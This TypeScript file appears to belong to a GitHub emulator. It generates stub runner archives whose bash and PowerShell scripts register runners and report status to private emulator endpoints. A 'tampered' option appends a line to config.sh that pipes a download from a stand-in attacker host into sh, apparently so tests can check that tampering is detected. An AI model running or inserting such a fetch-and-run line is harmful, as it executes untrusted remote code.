import { ArchiveEntry } from './archive';

/**
 * The scripts inside the emulator's runner archives. They speak only to the emulator's private
 * `/_emulator/runner` endpoints, so install scripts can be run end to end without GitHub:
 * bash, sed, base64 and curl on Linux/macOS; PowerShell on Windows. Like the real runner, they take
 * their inputs from `ACTIONS_RUNNER_INPUT_<NAME>` environment variables (command-line arguments
 * win) and clear them. Secrets reach curl through a config read from stdin, never through argv,
 * and no script prints a token. With `EMULATOR_STUB_RECORD` naming a file, each call appends its
 * argv and its ACTIONS_RUNNER_INPUT_* variables there, base64-encoded (what the security tests check).
 */

/** Script text is written with `$\{` where bash needs `${`, which a template literal would interpolate. */
function sh(text: string): string {
  return text.replace(/\$\\\{/g, '${');
}

const SHELL_LIB = sh(String.raw`# Shared by the emulator's runner stubs (config.sh, run.sh, svc.sh); sourced, never run.
RUNNER_OS='@OS@'
RUNNER_ARCH='@ARCH@'
RUNNER_VERSION='@VERSION@'

fail() { printf '%s\n' "$*" >&2; exit 1; }

# record_call SCRIPT ARGS...: appends this call's argv and runner inputs to $EMULATOR_STUB_RECORD.
record_call() {
  [ -n "$\{EMULATOR_STUB_RECORD:-}" ] || return 0
  local script=$1 a name
  shift
  {
    printf 'call %s\n' "$script"
    for a in "$@"; do printf 'arg %s\n' "$(printf '%s' "$a" | base64 | tr -d '\n')"; done
    for name in $(compgen -e); do
      case $name in
        ACTIONS_RUNNER_INPUT_*) printf 'env %s %s\n' "$name" "$(printf '%s' "$\{!name}" | base64 | tr -d '\n')" ;;
      esac
    done
  } >>"$EMULATOR_STUB_RECORD"
}

# json_escape TEXT: TEXT as the inside of a JSON string.
json_escape() {
  local s=$1
  s=$\{s//\\/\\\\}
  s=$\{s//\"/\\\"}
  printf '%s' "$s"
}

# json_value JSON KEY: the first string, number or boolean value of KEY (a sed pattern).
json_value() {
  printf '%s\n' "$1" | sed -n \
    -e "s/.*\"$2\"[[:space:]]*:[[:space:]]*\"\([^\"]*\)\".*/\1/p" -e t \
    -e "s/.*\"$2\"[[:space:]]*:[[:space:]]*\([A-Za-z0-9.]*\).*/\1/p" | head -n 1
}

# origin_of URL: scheme://host[:port] of URL.
origin_of() {
  printf '%s\n' "$1" | sed -E 's#^([A-Za-z][A-Za-z0-9+.-]*://[^/]+).*#\1#'
}

# call METHOD URL SCHEME SECRET [BODY]: sets HTTP_STATUS and HTTP_BODY.
call() {
  local method=$1 url=$2 scheme=$3 secret=$4 body=$\{5-} out
  local data=()
  if [ -n "$body" ]; then data=(-H 'Content-Type: application/json' --data-binary "$body"); fi
  if ! out=$(printf 'header = "Authorization: %s %s"\n' "$scheme" "$secret" |
    curl -sS -K - -X "$method" $\{data[@]+"$\{data[@]}"} -w '\n%{http_code}' "$url" 2>&1); then
    fail "Cannot reach the GitHub emulator at $url: $\{out%%$'\n'*}"
  fi
  HTTP_STATUS=$\{out##*$'\n'}
  HTTP_BODY=$\{out%$'\n'*}
}

# kv KEY: the value of a KEY=VALUE line of the last answer.
kv() {
  printf '%s\n' "$HTTP_BODY" | sed -n "s/^$1=//p" | head -n 1
}

# load_runner: reads .runner/.credentials of this folder into RUNNER_ID, RUNNER_NAME, SERVER_URL,
# GITHUB_URL and RUNNER_SECRET.
load_runner() {
  [ -f "$here/.runner" ] && [ -f "$here/.credentials" ] || fail "Not configured. Run config.sh to configure the runner."
  load_config "$(cat "$here/.runner")" "$(cat "$here/.credentials")"
}

load_config() {
  RUNNER_ID=$(json_value "$1" agentId)
  RUNNER_NAME=$(json_value "$1" agentName)
  SERVER_URL=$(json_value "$1" serverUrl)
  GITHUB_URL=$(json_value "$1" gitHubUrl)
  RUNNER_SECRET=$(json_value "$2" clientSecret)
  [ -n "$RUNNER_ID" ] && [ -n "$SERVER_URL" ] && [ -n "$RUNNER_SECRET" ] || fail "The runner configuration is incomplete: configure the runner again."
}

# set_online online|offline: reports the runner's connection state to the emulator.
set_online() {
  call POST "$SERVER_URL/$RUNNER_ID/$1" Bearer "$RUNNER_SECRET" "{\"os\":\"$RUNNER_OS\",\"arch\":\"$RUNNER_ARCH\",\"version\":\"$RUNNER_VERSION\"}"
  [ "$HTTP_STATUS" = 200 ] || fail "Runner connection failed (HTTP $HTTP_STATUS): $HTTP_BODY"
}
`);

const CONFIG_SH = sh(String.raw`#!/usr/bin/env bash
# Emulator stand-in for the runner's config.sh: registers this folder as a runner with a
# registration token (or removes it with a remove token), writing .runner and .credentials.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
. "$here/bin/stub-lib.sh"

record_call config.sh "$@"
cmd=configure
if [ "$\{1:-}" = remove ]; then cmd=remove; shift; fi
# Inputs from the environment, as the runner reads them (then cleared); arguments win.
url=$\{ACTIONS_RUNNER_INPUT_URL-} token=$\{ACTIONS_RUNNER_INPUT_TOKEN-} name=$\{ACTIONS_RUNNER_INPUT_NAME-}
labels=$\{ACTIONS_RUNNER_INPUT_LABELS-} group=$\{ACTIONS_RUNNER_INPUT_RUNNERGROUP-} work=$\{ACTIONS_RUNNER_INPUT_WORK:-_work}
unset ACTIONS_RUNNER_INPUT_URL ACTIONS_RUNNER_INPUT_TOKEN ACTIONS_RUNNER_INPUT_NAME ACTIONS_RUNNER_INPUT_LABELS ACTIONS_RUNNER_INPUT_RUNNERGROUP ACTIONS_RUNNER_INPUT_WORK
ephemeral=false replace=false disableupdate=false nodefault=false
while [ $# -gt 0 ]; do
  case $1 in
    --url|--token|--name|--labels|--runnergroup|--work)
      [ $# -ge 2 ] || fail "Missing value for $1"
      case $1 in
        --url) url=$2 ;;
        --token) token=$2 ;;
        --name) name=$2 ;;
        --labels) labels=$2 ;;
        --runnergroup) group=$2 ;;
        --work) work=$2 ;;
      esac
      shift 2 ;;
    --unattended) shift ;;
    --ephemeral) ephemeral=true; shift ;;
    --replace) replace=true; shift ;;
    --disableupdate) disableupdate=true; shift ;;
    --no-default-labels) nodefault=true; shift ;;
    *) fail "Unrecognized command-line input arguments: '$1'. For usage refer to: ./config.sh --help" ;;
  esac
done

if [ "$cmd" = remove ]; then
  [ -n "$token" ] || fail "Invalid configuration provided for token. Terminating unattended configuration."
  load_runner
  call POST "$SERVER_URL/remove" RemoteAuth "$token" "{\"runner_id\":$RUNNER_ID}"
  [ "$HTTP_STATUS" = 200 ] || fail "Failed to remove the runner (HTTP $HTTP_STATUS): $HTTP_BODY"
  rm -f "$here/.runner" "$here/.credentials" "$here/.service"
  printf '\n# Runner removal\n\n√ Runner removed successfully\n√ Removed .credentials\n√ Removed .runner\n'
  exit 0
fi

[ -n "$url" ] || fail "Invalid configuration provided for url. Terminating unattended configuration."
[ -n "$token" ] || fail "Invalid configuration provided for token. Terminating unattended configuration."
[ ! -f "$here/.runner" ] || fail "Cannot configure the runner because it is already configured. To reconfigure the runner, run './config.sh remove' first."
[ -n "$name" ] || name=$(hostname 2>/dev/null || uname -n)
origin=$(origin_of "$url")

body="{\"url\":\"$(json_escape "$url")\",\"name\":\"$(json_escape "$name")\",\"labels\":\"$(json_escape "$labels")\""
body="$body,\"runner_group\":\"$(json_escape "$group")\",\"work_folder\":\"$(json_escape "$work")\""
body="$body,\"ephemeral\":$ephemeral,\"replace\":$replace,\"disable_update\":$disableupdate,\"no_default_labels\":$nodefault"
body="$body,\"os\":\"$RUNNER_OS\",\"arch\":\"$RUNNER_ARCH\",\"version\":\"$RUNNER_VERSION\"}"

printf '\n# Authentication\n\n'
call POST "$origin/_emulator/runner/register" RemoteAuth "$token" "$body"
[ "$HTTP_STATUS" = 200 ] || fail "Http response code: $HTTP_STATUS from 'POST $origin/_emulator/runner/register': $HTTP_BODY"
printf '√ Connected to GitHub\n\n# Runner Registration\n\n'

runner_id=$(kv runner_id)
cat > "$here/.runner" <<RUNNER
{
  "agentId": $runner_id,
  "agentName": "$(json_escape "$(kv runner_name)")",
  "poolId": $(kv pool_id),
  "poolName": "$(json_escape "$(kv pool_name)")",
  "serverUrl": "$(kv server_url)",
  "gitHubUrl": "$(json_escape "$url")",
  "workFolder": "$(json_escape "$work")",
  "ephemeral": $ephemeral,
  "disableUpdate": $disableupdate
}
RUNNER
(
  umask 077
  cat > "$here/.credentials" <<CREDENTIALS
{
  "scheme": "OAuth",
  "data": {
    "clientId": "$(kv client_id)",
    "authorizationUrl": "$(kv server_url)/oauth2/token",
    "clientSecret": "$(kv runner_secret)"
  }
}
CREDENTIALS
)
mkdir -p "$here/$work"
printf '√ Runner successfully added\n√ Runner connection is good\n\n# Runner settings\n\n√ Settings Saved.\n\n'
`);

const RUN_SH = sh(String.raw`#!/usr/bin/env bash
# Emulator stand-in for the runner's run.sh: marks the runner online and exits 0 instead of
# listening for jobs. With --jitconfig it uses the JIT configuration instead of .runner.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
. "$here/bin/stub-lib.sh"

record_call run.sh "$@"
jitconfig=$\{ACTIONS_RUNNER_INPUT_JITCONFIG-}
unset ACTIONS_RUNNER_INPUT_JITCONFIG
if [ "$\{1:-}" = --jitconfig ]; then
  [ $# -ge 2 ] && [ -n "$2" ] || fail "Missing value for --jitconfig"
  jitconfig=$2
  shift 2
fi
[ $# -eq 0 ] || fail "Unrecognized command-line input arguments: '$1'."
if [ -n "$jitconfig" ]; then
  outer=$(printf '%s' "$jitconfig" | base64 -d 2>/dev/null) || fail "The JIT configuration is not base64: pass encoded_jit_config unchanged."
  runner_b64=$(json_value "$outer" '\.runner')
  creds_b64=$(json_value "$outer" '\.credentials')
  [ -n "$runner_b64" ] && [ -n "$creds_b64" ] || fail "The --jitconfig value is not a runner JIT configuration."
  load_config "$(printf '%s' "$runner_b64" | base64 -d)" "$(printf '%s' "$creds_b64" | base64 -d)"
else
  load_runner
fi
set_online online
printf '\n√ Connected to GitHub\n\nCurrent runner version: '\''%s'\''\n%s: Listening for Jobs\n' "$RUNNER_VERSION" "$(date -u '+%Y-%m-%d %H:%M:%SZ')"
printf 'Emulator stub: runner %s is online; exiting instead of waiting for jobs.\n' "$RUNNER_NAME"
`);

const SVC_SH = sh(String.raw`#!/usr/bin/env bash
# Emulator stand-in for the runner's svc.sh: install/uninstall keep a .service marker; start/stop
# mark the runner online/offline on the emulator; status reports what the emulator says.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
. "$here/bin/stub-lib.sh"

usage() { fail "Usage: ./svc.sh [install, start, stop, status, uninstall]"; }
installed() { [ -f "$here/.service" ] || fail "Not installed as a service: run ./svc.sh install first."; }

[ $# -ge 1 ] || usage
load_runner
scope_part=$(printf '%s\n' "$GITHUB_URL" | sed -E 's#^[A-Za-z][A-Za-z0-9+.-]*://[^/]+/##; s#/+$##; s#/#-#g')
service="actions.runner.$scope_part.$RUNNER_NAME.service"

case $1 in
  install)
    printf '%s\n' "$service" > "$here/.service"
    printf 'Creating launch runner in /etc/systemd/system/%s (emulator stub: no unit written)\n' "$service"
    printf 'Run as user: %s\n' "$(id -un)" ;;
  start)
    installed
    set_online online
    printf '%s\nActive: active (running)\n' "$service" ;;
  stop)
    installed
    set_online offline
    printf '%s\nActive: inactive (dead)\n' "$service" ;;
  status)
    installed
    call GET "$SERVER_URL/$RUNNER_ID/status" Bearer "$RUNNER_SECRET"
    [ "$HTTP_STATUS" = 200 ] || fail "Runner status failed (HTTP $HTTP_STATUS): $HTTP_BODY"
    if [ "$(kv status)" = online ]; then state='active (running)'; else state='inactive (dead)'; fi
    printf '%s\nActive: %s\n' "$service" "$state" ;;
  uninstall)
    installed
    set_online offline
    rm -f "$here/.service"
    printf 'Removed %s\n' "$service" ;;
  *) usage ;;
esac
`);

const STUB_PS1 = sh(String.raw`# Emulator stand-in for the Windows runner's config.cmd / run.cmd (PowerShell 5.1 or 7).
# Talks only to the emulator's /_emulator/runner endpoints and never prints a token.
$ErrorActionPreference = 'Stop'
$RunnerOs = '@OS@'; $RunnerArch = '@ARCH@'; $RunnerVersion = '@VERSION@'
$Here = Split-Path -Parent $PSScriptRoot

function Fail([string]$Message) { [Console]::Error.WriteLine($Message); exit 1 }

function Invoke-Emulator([string]$Method, [string]$Url, [string]$Scheme, [string]$Secret, [string]$Body) {
  $params = @{ UseBasicParsing = $true; Method = $Method; Uri = $Url; Headers = @{ Authorization = "$Scheme $Secret" } }
  if ($Body) { $params.ContentType = 'application/json'; $params.Body = $Body }
  try {
    $r = Invoke-WebRequest @params
    return @{ Status = [int]$r.StatusCode; Body = [string]$r.Content }
  } catch {
    if ($null -eq $_.Exception.Response) { Fail "Cannot reach the GitHub emulator at $Url" }
    return @{ Status = [int]$_.Exception.Response.StatusCode; Body = [string]$_.ErrorDetails.Message }
  }
}

function Get-Kv([string]$Text, [string]$Key) {
  foreach ($line in ($Text -split "\r?\n")) { if ($line.StartsWith("$Key=")) { return $line.Substring($Key.Length + 1) } }
  return ''
}

function From-Base64([string]$Text) { [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($Text)) }

function Set-Online([object]$Runner, [object]$Credentials, [string]$State) {
  $body = @{ os = $RunnerOs; arch = $RunnerArch; version = $RunnerVersion } | ConvertTo-Json -Compress
  $r = Invoke-Emulator 'POST' "$($Runner.serverUrl)/$($Runner.agentId)/$State" 'Bearer' $Credentials.data.clientSecret $body
  if ($r.Status -ne 200) { Fail "Runner connection failed (HTTP $($r.Status)): $($r.Body)" }
}

$command = $args[0]
$rest = @($args | Select-Object -Skip 1)
$runnerFile = Join-Path $Here '.runner'
$credentialsFile = Join-Path $Here '.credentials'

# Inputs from the environment, as the runner reads them (then cleared); arguments win.
$inputs = @{}
foreach ($n in 'URL', 'TOKEN', 'NAME', 'LABELS', 'RUNNERGROUP', 'WORK', 'JITCONFIG') {
  $inputs[$n] = [string][Environment]::GetEnvironmentVariable("ACTIONS_RUNNER_INPUT_$n")
  [Environment]::SetEnvironmentVariable("ACTIONS_RUNNER_INPUT_$n", $null)
}

if ($command -eq 'run') {
  $jit = $inputs['JITCONFIG']
  if ($rest.Count -ge 2 -and $rest[0] -eq '--jitconfig') { $jit = [string]$rest[1] }
  if ($jit) {
    $outer = (From-Base64 $jit) | ConvertFrom-Json
    $runner = (From-Base64 $outer.'.runner') | ConvertFrom-Json
    $credentials = (From-Base64 $outer.'.credentials') | ConvertFrom-Json
  } else {
    if (-not (Test-Path $runnerFile)) { Fail 'Not configured. Run config.cmd to configure the runner.' }
    $runner = Get-Content -Raw $runnerFile | ConvertFrom-Json
    $credentials = Get-Content -Raw $credentialsFile | ConvertFrom-Json
  }
  Set-Online $runner $credentials 'online'
  Write-Output "√ Connected to GitHub"
  Write-Output "Current runner version: '$RunnerVersion'"
  Write-Output "Emulator stub: runner $($runner.agentName) is online; exiting instead of waiting for jobs."
  exit 0
}

$opts = @{ url = $inputs['URL']; token = $inputs['TOKEN']; name = $inputs['NAME']; labels = $inputs['LABELS']; runnergroup = $inputs['RUNNERGROUP']; work = $inputs['WORK'] }
if (-not $opts.name) { $opts.name = $env:COMPUTERNAME }
if (-not $opts.work) { $opts.work = '_work' }
$flags = @{ ephemeral = $false; replace = $false; disableupdate = $false; 'no-default-labels' = $false }
$remove = $false
for ($i = 0; $i -lt $rest.Count; $i++) {
  $a = [string]$rest[$i]
  if ($a -eq 'remove') { $remove = $true; continue }
  if ($a -eq '--unattended') { continue }
  $key = $a.TrimStart('-')
  if ($flags.ContainsKey($key)) { $flags[$key] = $true; continue }
  if ($opts.ContainsKey($key) -and $i + 1 -lt $rest.Count) { $opts[$key] = [string]$rest[$i + 1]; $i++; continue }
  Fail "Unrecognized command-line input arguments: '$a'."
}
if (-not $opts.token) { Fail 'Invalid configuration provided for token. Terminating unattended configuration.' }

if ($remove) {
  if (-not (Test-Path $runnerFile)) { Fail 'Not configured. Nothing to remove.' }
  $runner = Get-Content -Raw $runnerFile | ConvertFrom-Json
  $r = Invoke-Emulator 'POST' "$($runner.serverUrl)/remove" 'RemoteAuth' $opts.token (@{ runner_id = $runner.agentId } | ConvertTo-Json -Compress)
  if ($r.Status -ne 200) { Fail "Failed to remove the runner (HTTP $($r.Status)): $($r.Body)" }
  Remove-Item -Force -ErrorAction SilentlyContinue $runnerFile, $credentialsFile
  Write-Output '√ Runner removed successfully'
  exit 0
}

if (-not $opts.url) { Fail 'Invalid configuration provided for url. Terminating unattended configuration.' }
if (Test-Path $runnerFile) { Fail "Cannot configure the runner because it is already configured. To reconfigure the runner, run 'config.cmd remove' first." }
$origin = ([Uri]$opts.url).GetLeftPart([UriPartial]::Authority)
$body = @{
  url = $opts.url; name = $opts.name; labels = $opts.labels; runner_group = $opts.runnergroup; work_folder = $opts.work
  ephemeral = $flags.ephemeral; replace = $flags.replace; disable_update = $flags.disableupdate; no_default_labels = $flags.'no-default-labels'
  os = $RunnerOs; arch = $RunnerArch; version = $RunnerVersion
} | ConvertTo-Json -Compress
$r = Invoke-Emulator 'POST' "$origin/_emulator/runner/register" 'RemoteAuth' $opts.token $body
if ($r.Status -ne 200) { Fail "Http response code: $($r.Status) from 'POST $origin/_emulator/runner/register': $($r.Body)" }
$serverUrl = Get-Kv $r.Body 'server_url'
@{
  agentId = [int](Get-Kv $r.Body 'runner_id'); agentName = Get-Kv $r.Body 'runner_name'
  poolId = [int](Get-Kv $r.Body 'pool_id'); poolName = Get-Kv $r.Body 'pool_name'
  serverUrl = $serverUrl; gitHubUrl = $opts.url; workFolder = $opts.work
  ephemeral = $flags.ephemeral; disableUpdate = $flags.disableupdate
} | ConvertTo-Json | Set-Content -Encoding UTF8 $runnerFile
@{
  scheme = 'OAuth'
  data = @{ clientId = Get-Kv $r.Body 'client_id'; authorizationUrl = "$serverUrl/oauth2/token"; clientSecret = Get-Kv $r.Body 'runner_secret' }
} | ConvertTo-Json | Set-Content -Encoding UTF8 $credentialsFile
New-Item -ItemType Directory -Force -Path (Join-Path $Here $opts.work) | Out-Null
Write-Output '√ Connected to GitHub'
Write-Output '√ Runner successfully added'
Write-Output '√ Settings Saved.'
`);

const CONFIG_CMD =
  '@echo off\r\nrem Emulator stand-in for the runner\'s config.cmd.\r\npowershell -NoProfile -ExecutionPolicy Bypass -File "%~dp0bin\\stub.ps1" config %*\r\nexit /b %ERRORLEVEL%\r\n';
const RUN_CMD =
  '@echo off\r\nrem Emulator stand-in for the runner\'s run.cmd.\r\npowershell -NoProfile -ExecutionPolicy Bypass -File "%~dp0bin\\stub.ps1" run %*\r\nexit /b %ERRORLEVEL%\r\n';

function fill(template: string, os: string, arch: string, version: string): string {
  return template
    .replace(/@OS@/g, os)
    .replace(/@ARCH@/g, arch)
    .replace(/@VERSION@/g, version);
}

/** The files of one runner archive; `tampered` changes the config script as an attacker would. */
export function stubEntries(os: string, arch: string, version: string, tampered: boolean): ArchiveEntry[] {
  const info = {
    path: 'bin/emulator-runner.txt',
    content: `actions-runner ${os}-${arch} ${version} (GitHub emulator stub)\n`,
    mode: 0o644,
  };
  if (os === 'win') {
    return [
      { path: 'config.cmd', content: CONFIG_CMD + (tampered ? 'rem tampered\r\n' : ''), mode: 0o644 },
      { path: 'run.cmd', content: RUN_CMD, mode: 0o644 },
      { path: 'bin/stub.ps1', content: fill(STUB_PS1, os, arch, version), mode: 0o644 },
      info,
    ];
  }
  return [
    { path: 'config.sh', content: CONFIG_SH + (tampered ? 'curl -s https://attacker.invalid/payload | sh # tampered\n' : ''), mode: 0o755 },
    { path: 'run.sh', content: RUN_SH, mode: 0o755 },
    { path: 'svc.sh', content: SVC_SH, mode: 0o755 },
    { path: 'bin/stub-lib.sh', content: fill(SHELL_LIB, os, arch, version), mode: 0o644 },
    info,
  ];
}
